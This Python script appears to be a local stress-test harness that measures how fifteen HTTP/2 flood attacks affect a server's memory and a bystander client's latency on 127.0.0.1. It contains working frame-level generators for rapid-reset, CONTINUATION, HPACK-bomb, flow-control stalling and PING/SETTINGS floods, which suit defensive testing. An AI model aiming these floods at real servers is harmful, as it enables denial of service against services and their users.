#!/usr/bin/env python3
"""What floods of HTTP/2 cost, and whether other clients notice.

Connections that do nothing but one kind of flood, 20 at a time, and again when they are cut unless --once
is given. Beside them a client of HTTP/1 sends one small request after another. For each flood: the p99 of
that client without and with it, the growth of memory (RssAnon) at its highest and three seconds after the
end, the connections that were opened, and why they were cut, from the metrics.

Everything happens on 127.0.0.1.
"""

import select
import socket
import threading
import time

import floods

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PUSH, PING, GO_AWAY, WINDOW, CONTINUATION = range(10)
END_STREAM, END_HEADERS = 1, 4
STREAMS = 128


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def text(value):
    return floods.prefixed(len(value), 7, 0) + value


def field(name, value):
    return b"\0" + text(name) + text(value)


def block(path, method=b"GET"):
    return field(b":method", method) + b"\x86" + field(b":path", path) + field(b":authority", b"a")


def get(stream, path):
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, block(path))


def settings(key, value):
    return frame(SETTINGS, 0, 0, key.to_bytes(2, "big") + value.to_bytes(4, "big"))


def grow(by, stream):
    return frame(WINDOW, 0, stream, by.to_bytes(4, "big"))


def in_frames(stream, fields):
    pieces = [fields[at : at + 16384] for at in range(0, len(fields), 16384)]
    out = b""
    for index, piece in enumerate(pieces):
        kind, flags = (CONTINUATION, 0) if index else (HEADERS, END_STREAM)
        out += frame(kind, flags | (END_HEADERS if piece is pieces[-1] else 0), stream, piece)
    return out


# Each yields what is sent after the preface; the pieces go out as fast as they are taken, and a number
# is a pause in seconds.


def rapid_reset():
    stream = 1
    while True:
        pairs = [get(at, b"/hang") + frame(RESET, 0, at, b"\0\0\0\x08") for at in range(stream, stream + 40, 2)]
        stream += 40
        yield b"".join(pairs)


def late_reset():
    stream = 1
    while True:
        some = range(stream, stream + 40, 2)
        stream += 40
        yield b"".join(get(at, b"/hang") for at in some)
        yield 0.02
        yield b"".join(frame(RESET, 0, at, b"\0\0\0\x08") for at in some)


def tiny_windows():
    yield settings(4, 1) + b"".join(get(2 * at + 1, b"/large") for at in range(STREAMS))
    while True:
        yield 1.0
        yield b"".join(grow(1, 2 * at + 1) for at in range(0, STREAMS, 2))


def no_windows():
    yield settings(4, 0) + b"".join(get(2 * at + 1, b"/large") for at in range(STREAMS))
    while True:
        yield 1.0


def window_updates():
    yield get(1, b"/hang")
    while True:
        yield grow(1, 0) * 100


def left_open():
    for at in range(STREAMS):
        yield frame(HEADERS, END_HEADERS, 2 * at + 1, block(b"/", b"POST"))
    while True:
        yield 1.0


def bodies_held():
    """As much of each body as the windows take, and never the end."""
    for at in range(STREAMS):
        yield frame(HEADERS, END_HEADERS, 2 * at + 1, block(b"/hang", b"POST"))
    for at in range(STREAMS):
        yield frame(DATA, 0, 2 * at + 1, bytes(16000))
    while True:
        yield 1.0


def requests_that_hang():
    yield b"".join(get(2 * at + 1, b"/hang") for at in range(STREAMS))
    while True:
        yield 1.0


def many_settings():
    while True:
        yield settings(4, 65535) * 50


def pings():
    while True:
        yield frame(PING, 0, 0, b"12345678") * 50


def empty_frames():
    yield frame(HEADERS, END_HEADERS, 1, block(b"/hang", b"POST"))
    while True:
        yield frame(DATA, 0, 1) * 50


def continuation():
    yield frame(HEADERS, END_STREAM, 1, block(b"/"))
    while True:
        yield frame(CONTINUATION, 0, 1, field(b"x", b"y"))


def bomb():
    stored = b"\x40" + text(b"a") + text(b"x" * 4000)
    stream = 1
    while True:
        yield in_frames(stream, block(b"/") + stored + b"\xbe" * 14000)
        stream += 2


def crumbs():
    stream = 1
    while True:
        yield in_frames(stream, block(b"/") + field(b"cookie", b"a=b") * 10_000)
        stream += 2


def malformed():
    stream = 1
    while True:
        some = range(stream, stream + 40, 2)
        stream += 40
        yield b"".join(
            frame(HEADERS, END_STREAM | END_HEADERS, at, block(b"/") + field(b"X", b"y")) for at in some
        )


FLOODS = [
    rapid_reset, late_reset, tiny_windows, no_windows, window_updates, left_open, bodies_held,
    requests_that_hang, many_settings, pings, empty_frames, continuation, bomb, crumbs, malformed,
]


def attack(flood, port, opened):
    """One connection after another."""
    while opened.another():
        try:
            with socket.create_connection(("127.0.0.1", port), 2) as client:
                client.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, 1, 0))
                for piece in flood():
                    pause = piece if isinstance(piece, float) else 0
                    while True:
                        if time.monotonic() >= opened.end:
                            return
                        readable, _, _ = select.select([client], [], [], min(pause, 0.2))
                        if readable and not client.recv(1 << 18):
                            raise OSError("cut")
                        pause -= 0.2
                        if pause <= 0:
                            break
                    if not isinstance(piece, float):
                        client.sendall(piece)
        except OSError:
            time.sleep(0.01)


def attacker(name, port, opened, count):
    flood = next(it for it in FLOODS if it.__name__ == name)
    threads = [threading.Thread(target=attack, args=(flood, port, opened)) for _ in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def bystander(port, seconds):
    """The p99 of one small request after another, in ms."""
    client = socket.create_connection(("127.0.0.1", port), 10)
    client.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    times, end = [], time.monotonic() + seconds
    while time.monotonic() < end:
        began = time.monotonic()
        client.sendall(b"GET /own HTTP/1.1\r\nHost: a\r\n\r\n")
        seen = b""
        while not seen.endswith(b"ok"):
            piece = client.recv(4096)
            if not piece:
                raise SystemExit("the bystander was closed")
            seen += piece
        times.append(time.monotonic() - began)
        time.sleep(0.002)
    client.close()
    return sorted(times)[int(len(times) * 0.99)] * 1000


def listener(_folder):
    return "protocols: [h2c, http/1.1]"


if __name__ == "__main__":
    floods.main(__doc__, FLOODS, attacker, bystander, listener)
